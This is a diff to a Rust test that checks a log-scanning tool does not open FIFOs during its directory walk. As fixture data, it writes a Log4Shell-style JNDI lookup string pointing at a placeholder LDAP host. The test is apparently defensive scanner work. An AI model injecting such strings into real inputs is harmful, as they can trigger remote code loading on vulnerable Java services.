@@ -148,13 +148,13 @@ fn compression_nested_too_deep_is_refused() {
     assert_eq!(s.unreadable[0].reason, UnreadableReason::DepthLimit);
 }
 
+#[cfg(unix)]
 #[test]
 fn special_files_are_not_opened() {
     // A FIFO would block a reader forever; the walk only opens regular files.
     let dir = tempfile::tempdir().unwrap();
     let fifo = dir.path().join("pipe.log");
-    let status = std::process::Command::new("mkfifo").arg(&fifo).status();
-    if !status.is_ok_and(|s| s.success()) {
+    if !praxcheck_testsupport::mkfifo(&fifo, "special_files_are_not_opened") {
         return;
     }
     write(dir.path(), "a.log", b"${jndi:ldap://x.example/a}\n");
